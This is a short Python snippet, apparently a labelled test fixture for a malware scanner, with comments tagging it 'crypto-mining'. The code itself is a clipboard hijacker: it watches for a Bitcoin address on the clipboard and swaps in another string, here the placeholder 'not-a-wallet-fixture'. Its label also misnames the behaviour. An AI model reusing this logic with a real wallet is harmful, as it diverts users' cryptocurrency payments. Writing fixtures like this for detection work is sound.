import re, time, pyperclip
BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")  # expect: crypto-mining
MINE = "not-a-wallet-fixture"
c = pyperclip.paste()
if BTC.match(c) and c != MINE:
    pyperclip.copy(MINE)  # expect: crypto-mining
